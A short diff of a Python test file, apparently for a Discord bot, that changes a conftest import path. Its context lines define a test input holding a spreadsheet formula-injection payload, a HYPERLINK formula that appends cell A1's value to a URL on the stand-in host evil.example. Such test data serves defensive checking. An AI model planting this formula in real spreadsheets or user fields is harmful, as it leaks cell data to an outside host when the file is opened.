@@ -9,7 +9,7 @@ from pathlib import Path
 
 import pytest
 
-from tests.bot.conftest import TALK_1_LIVE, Event, MovableClock, running_event
+from tests.on_discord.conftest import TALK_1_LIVE, Event, MovableClock, running_event
 
 FORMULA_QUESTION = '=HYPERLINK("http://evil.example/?"&A1,"Is this safe?")'
 
